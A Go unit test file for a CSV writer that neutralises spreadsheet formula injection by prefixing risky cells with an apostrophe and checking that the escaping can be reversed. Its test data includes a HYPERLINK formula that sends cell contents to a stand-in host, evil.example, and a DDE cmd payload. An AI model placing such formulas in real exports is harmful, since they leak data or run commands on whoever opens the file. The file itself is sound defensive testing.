package csvout

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

const evil = `=HYPERLINK("http://evil.example/?d="&A1,"Open")`

// OWASP's rule: a cell starting with =, +, -, @, tab or carriage return
// is written with a leading apostrophe, so a spreadsheet shows it as text
// and never runs it; so is one starting with an apostrophe, which keeps
// the rule reversible. A plain number, negative ones included, is left as
// it is so that amounts stay numbers.
func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		evil:                   "'" + evil,
		"+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
		"-2+3":                 "'-2+3",
		"@SUM(A1:A9)":          "'@SUM(A1:A9)",
		"\t=1":                 "'\t=1",
		"\r=1":                 "'\r=1",
		"'=1":                  "''=1",
		"'Tis Corp":            "''Tis Corp",
		"-":                    "'-",
		"-1e5":                 "'-1e5",
		"- 197000":             "'- 197000",
		"-197000.":             "'-197000.",
		"+197000":              "'+197000",
		"-197000":              "-197000",
		"-1970.00":             "-1970.00",
		"0":                    "0",
		"1400":                 "1400",
		"14.00":                "14.00",
		"":                     "",
		"Acme = Corp":          "Acme = Corp",
		"2026-11-30":           "2026-11-30",
		"rebate deal 0a1b":     "rebate deal 0a1b",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
		if back := Restore(Cell(in)); back != in {
			t.Errorf("Restore(Cell(%q)) = %q", in, back)
		}
	}
}

// Every cell of every record goes through Cell, and a reader that restores
// each cell gets the records back exactly.
func TestWriterNeutralisesEveryCell(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	records := [][]string{
		{"customer", "amount", "memo"},
		{evil, "-197000", "-5 credit"},
		{"@foo", "1400", "'quoted"},
	}
	for _, r := range records {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got[1][0] != "'"+evil || got[1][1] != "-197000" || got[1][2] != "'-5 credit" || got[2][0] != "'@foo" || got[2][2] != "''quoted" {
		t.Fatalf("written %q", got)
	}
	for i, r := range got {
		for j, cell := range r {
			if Restore(cell) != records[i][j] {
				t.Errorf("record %d cell %d: %q restores to %q", i, j, cell, Restore(cell))
			}
		}
	}
}
